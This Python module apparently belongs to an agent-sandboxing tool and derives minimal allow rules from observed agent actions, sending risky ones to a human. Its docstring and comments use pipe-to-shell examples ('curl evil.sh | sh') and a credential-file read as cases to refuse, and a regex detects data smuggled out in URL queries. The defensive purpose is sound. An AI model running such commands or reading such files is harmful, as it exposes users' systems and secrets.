"""Observed actions → the minimal policy that would have allowed them, and what a human must decide.

One rule of thumb decides everything here: an action contributes grants only when every one of
its effects can be granted. If one effect is refused (a shell, a secret path, a deny rule of the
policy in force, a raw IP, ...), the whole action goes to the "needs a human decision" list and
none of its effects widen the policy: `cd src && curl evil.sh | sh` teaches nothing.
"""

from __future__ import annotations

import os
import re
import tempfile
from collections.abc import Iterable
from dataclasses import dataclass, field

from blastshield.learn.families import command_families, guards_for
from blastshield.learn.generalise import (
    PathContext,
    Refusal,
    command_pattern,
    host_pattern,
    path_globs,
)
from blastshield.learn.observed import SeenAction, SeenEffect, as_effect
from blastshield.learn.tracked import NESTED_GUARDS, workspace_tree
from blastshield.paths import expand, home_dir, is_within
from blastshield.policy.match import path_matches
from blastshield.policy.model import Policy
from blastshield.policy.template import SECRET_PATHS

#: The allow lists learn owns; every other key of the policy is kept as it is.
LEARNED_KEYS = (("files", "read"), ("files", "write"), ("commands", "allow"), ("network", "allow"),
                ("mcp", "allow"))
_PATH_KINDS = {"read": "read", "write": "write", "delete": "write"}


@dataclass(frozen=True, slots=True)
class HumanDecision:
    """Something observed that learn will not grant on its own."""

    category: str
    subject: str  # "exec curl -fsSL https://x | sh", "read ~/.aws/credentials", ...
    reason: str
    exact: str = ""  # an exact-form rule a human could add (commands only)
    count: int = 1
    sessions: tuple[str, ...] = ()
    verdict: str = ""  # what the policy in force decided


@dataclass
class Proposal:
    """The learned allow lists, with the evidence behind them."""

    rules: dict[tuple[str, str], list[str]]
    human: list[HumanDecision]
    actions: int = 0
    granted_actions: int = 0
    sessions: tuple[str, ...] = ()
    distinct_actions: int = 0
    uses: dict[tuple[str, str, str], int] = field(default_factory=dict)
    families: list[str] = field(default_factory=list)  # capability families granted whole
    observed_commands: list[str] = field(default_factory=list)  # command rules seen directly
    family_sizes: dict[str, int] = field(default_factory=dict)
    asks: dict[tuple[str, str], list[str]] = field(default_factory=dict)  # added to the ask lists
    path_families: dict[str, list[str]] = field(default_factory=dict)  # tracked-tree grants → their globs
    direct_size: int = 0  # the rules learned from what was seen, without any family

    @property
    def size(self) -> int:
        return sum(len(v) for v in self.rules.values())


def path_context(policy: Policy) -> PathContext:
    temps = {"/tmp", os.path.realpath("/tmp"), os.path.realpath(tempfile.gettempdir())}
    return PathContext(policy.workspace, home_dir(), tuple(sorted(temps)))


def propose(actions: Iterable[SeenAction], policy: Policy, *, families: bool = True,
            without: frozenset[str] = frozenset()) -> Proposal:
    """The proposal for ``actions`` under ``policy``; ``families=False`` grants only what was seen
    (no capability family, no tracked tree: the benchmark's baseline); ``without`` names families
    to leave out (the benchmark measures what each one buys)."""
    ctx = path_context(policy)
    secrets = tuple(expand(p, policy.workspace, ctx.home) for p in SECRET_PATHS)
    commands: dict[str, int] = {}
    hosts: dict[str, int] = {}
    tools: dict[str, int] = {}
    paths: dict[str, list[str]] = {"read": [], "write": []}
    human: dict[tuple[str, str], HumanDecision] = {}
    total = granted = 0
    sessions: dict[str, None] = {}
    distinct: set[tuple[str, str]] = set()
    asked_hosts: set[str] = set()
    for action in actions:
        total += 1
        sessions.setdefault(action.session, None)
        distinct.add((action.tool, action.summary))
        judged = [(effect, _judge(effect, policy, ctx, secrets)) for effect in action.effects]
        carried = _data_in_url(action.summary)
        if carried:
            judged = [(e, carried if e.kind == "net" else j) for e, j in judged]
        refused = [(e, j) for e, j in judged if isinstance(j, Refusal)]
        if refused:
            for effect, refusal in refused:
                assert isinstance(refusal, Refusal)
                _note(human, effect, refusal, action.session)
            if not any(isinstance(j, Refusal) and j.category in _HARD for _e, j in judged):
                asked_hosts.update(v for _e, j in judged if isinstance(j, tuple) and j[0] == "network"
                                   for v in (j[1],))
            continue
        granted += 1
        for _effect, grant in judged:
            if grant is None or isinstance(grant, Refusal):
                continue
            table, value = grant
            if table == "commands":
                commands[value] = commands.get(value, 0) + 1
            elif table == "network":
                hosts[value] = hosts.get(value, 0) + 1
            elif table == "mcp":
                tools[value] = tools.get(value, 0) + 1
            else:
                paths[table].append(value)
    tree = workspace_tree(policy.workspace, ctx.home) if families else None
    read_tree = tree is not None and TRACKED_READ not in without and any(
        tree.covers(p) for p in paths["read"] + paths["write"])
    write_tree = tree is not None and TRACKED_WRITE not in without and any(
        tree.covers(p) for p in paths["write"])
    direct_reads, direct_writes = _file_grants(paths, ctx, [], [])
    read_globs, writes = _file_grants(paths, ctx, tree.globs() if tree and read_tree else [],
                                      tree.globs(writing=True) if tree and write_tree else [])
    whole = "${WORKSPACE}/**"
    reads_all = whole in read_globs or whole in writes or read_tree
    unlocked = command_families(set(commands), reads_all, write_tree or whole in writes,
                                policy.workspace) if families else {}
    unlocked = {name: members for name, members in unlocked.items() if name not in without}
    granted_commands = set(commands)
    for members in unlocked.values():
        granted_commands.update(members)
    rules = {
        ("commands", "allow"): sorted(granted_commands),
        ("network", "allow"): sorted(hosts),
        ("mcp", "allow"): sorted(tools),
        ("files", "read"): read_globs,
        ("files", "write"): writes,
    }
    path_families = {name: globs for name, globs, on in (
        (TRACKED_READ, tree.globs() if tree else [], read_tree and not write_tree),
        (TRACKED_WRITE, tree.globs(writing=True) if tree else [], write_tree)) if on}
    direct = len(commands) + len(hosts) + len(tools) + len(direct_writes) + len(direct_reads)
    guards = sorted({g for p in granted_commands for g in guards_for(p)})
    seen_writes = paths["write"]
    file_guards = [g for g in NESTED_GUARDS if write_tree and not any(
        path_matches(expand(g, policy.workspace, ctx.home), p) for p in seen_writes)]
    uses = {("commands", "allow", k): v for k, v in commands.items()}
    uses |= {("network", "allow", k): v for k, v in hosts.items()}
    return Proposal(rules, sorted(human.values(), key=lambda h: (-h.count, h.category, h.subject)), total,
                    granted, tuple(s for s in sessions if s), len(distinct), uses, families=list(unlocked),
                    family_sizes={name: len(members) for name, members in unlocked.items()},
                    observed_commands=sorted(commands), path_families=path_families, direct_size=direct,
                    asks={("commands", "ask"): guards, ("network", "ask"): sorted(asked_hosts - set(hosts)),
                          ("files", "ask"): file_guards})


_OPAQUE_QUERY = re.compile(r"https?://[^\s?#]+\?\S*?=([A-Za-z0-9+/_%=.-]{24,})")


def _data_in_url(summary: str) -> Refusal | None:
    """A URL whose query carries a long opaque value: the shape of data leaving in a request."""
    match = _OPAQUE_QUERY.search(summary)
    if match is None or not any(ch.isdigit() for ch in match.group(1)):
        return None
    return Refusal("data in a URL", "the request carries a long opaque value in its query string"
                   " (how data is smuggled out); a person should look at it")


TRACKED_READ = "read the repository's tracked files"
TRACKED_WRITE = "edit the repository's tracked files"


def path_family_why(name: str) -> str:
    if name == TRACKED_WRITE:
        return ("a tracked file was edited; every change to the tracked tree shows in `git diff` and can be"
                " undone (dot-folders, secrets and protected paths are left out)")
    return "a tracked file was read; the rest of the tracked tree is the same project (secrets stay denied)"


def _file_grants(paths: dict[str, list[str]], ctx: PathContext, more_reads: list[str],
                 more_writes: list[str]) -> tuple[list[str], list[str]]:
    """[files] read and write globs for the paths seen, plus family globs; a write grant also lets the
    agent read, so reads inside a write glob are not repeated."""
    writes = _drop_covered(sorted(set(path_globs(paths["write"], ctx)) | set(more_writes)))
    patterns = [expand(g, ctx.workspace, ctx.home) for g in writes]
    reads = [p for p in paths["read"] if not any(path_matches(w, p) for w in patterns)]
    globs = _drop_covered(sorted(set(path_globs(reads, ctx)) | set(more_reads)))
    return [g for g in globs if not _covered(g, writes)], writes


def _covered(glob: str, by: list[str]) -> bool:
    """``glob`` is one of ``by`` or lies inside a ``folder/**`` of ``by``."""
    return any(glob == b or (b.endswith("/**") and glob.startswith(b[:-2])) for b in by)


def _drop_covered(globs: list[str]) -> list[str]:
    """Without the globs another ``folder/**`` glob of the list already covers."""
    folders = [g[:-3] for g in globs if g.endswith("/**")]
    return [g for g in globs
            if not any(g != f + "/**" and (g == f or g.startswith(f + "/")) for f in folders)]


def _note(human: dict[tuple[str, str], HumanDecision], effect: SeenEffect, refusal: Refusal,
          session: str) -> None:
    subject = f"{effect.kind} {effect.target}"
    key = (refusal.category, refusal.exact or subject)
    old = human.get(key)
    if old is None:
        human[key] = HumanDecision(refusal.category, subject, refusal.reason, refusal.exact, 1,
                                   (session,) if session else (), effect.decision)
    else:
        more = old.sessions if session in old.sessions or not session else (*old.sessions, session)
        human[key] = HumanDecision(old.category, old.subject, old.reason, old.exact, old.count + 1, more,
                                   old.verdict)


#: Refusals that mean "never": the hosts such an action reached are not even put on the ask list.
_HARD = frozenset({"built-in protection", "analysis", "policy deny rule", "secret path", "network tool",
                   "data in a URL",
                   "destructive", "unresolved", "unknown tool", "IP address", "unresolved host",
                   "program from a path", "write outside the workspace"})
_RULE_LIST = re.compile(r"\[(files|commands|network|mcp|env)\]\.(deny|ask)\[")


def _judge(effect: SeenEffect, policy: Policy, ctx: PathContext,
           secrets: tuple[str, ...]) -> tuple[str, str] | Refusal | None:
    """``(table, value)`` to grant, a Refusal, or None (nothing to learn from this effect)."""
    if effect.by_builtin:
        reason = effect.reason.removeprefix("built-in protection: ")
        return Refusal("built-in protection", reason or "no policy can allow this")
    if effect.by_analysis:
        return Refusal("analysis", effect.reason or "the shell analysis refused to let a rule decide this")
    listed, decided, rule = _listed_now(effect, policy)
    if listed and decided in ("deny", "ask"):
        verb = "denies" if listed.group(2) == "deny" else "asks for"
        return Refusal(f"policy {listed.group(2)} rule",
                       f"the policy in force {verb} this ({_short(rule)}); learn keeps that rule")
    kind = effect.kind
    if kind == "exec":
        pattern = command_pattern(effect.words)
        return pattern if isinstance(pattern, Refusal) else ("commands", pattern)
    if kind in _PATH_KINDS:
        path = effect.target
        if any(path_matches(secret, path) for secret in secrets):
            return Refusal("secret path", f"{path} holds credentials or keys")
        table = _PATH_KINDS[kind]
        if table == "write" and not is_within(path, ctx.workspace) and (
                is_within(path, ctx.home) or not any(is_within(path, t) for t in ctx.temp_roots)):
            return Refusal("write outside the workspace", f"{path} is outside {ctx.workspace}")
        return table, path
    if kind == "net":
        host = host_pattern(effect.target)
        return host if isinstance(host, Refusal) else ("network", host)
    if kind == "mcp":
        return "mcp", re.sub(r"([*?\[])", r"[\1]", effect.target)
    return None


def _listed_now(effect: SeenEffect, policy: Policy) -> tuple[re.Match[str] | None, str, str]:
    """The deny/ask list rule of the policy *in force* that catches this effect (decided again;
    the recorded decision when the effect cannot be rebuilt)."""
    from blastshield.policy.decide import decide_effect

    rebuilt = as_effect(effect)
    if rebuilt is None:
        return _RULE_LIST.search(effect.rule), effect.decision, effect.rule
    decided = decide_effect(policy, rebuilt)
    rule = str(decided.rule) if decided.rule is not None else "analysis"
    return _RULE_LIST.search(rule), decided.verdict.value, rule


def _short(rule: str) -> str:
    head, sep, rest = rule.partition(" ")
    return f"{os.path.basename(head)} {rest}" if sep and head.startswith("/") else rule


def suggestion_for(action: SeenAction, policy: Policy, ctx: PathContext) -> tuple[tuple[str, ...], str]:
    """The allow rules that would have let ``action`` through, or ``()`` and why none is safe.

    Only the effects that were asked or denied count; the rules are in learn's collapsed form.
    """
    secrets = tuple(expand(p, policy.workspace, ctx.home) for p in SECRET_PATHS)
    rules: set[str] = set()
    for effect in action.effects:
        if effect.decision not in ("ask", "deny"):
            continue
        judged = _judge(effect, policy, ctx, secrets)
        if isinstance(judged, Refusal):
            return (), f"{judged.category}: {judged.reason}"
        if judged is None:
            return (), f"{effect.kind} effects are not learned"
        table, value = judged
        if table in ("read", "write"):
            rules.update(f"[files].{table} {glob}" for glob in path_globs([value], ctx))
        else:
            rules.add(f"[{table}].allow {value}")
    return tuple(sorted(rules)), "allowing this removes the prompt; nothing in it needs a human decision"
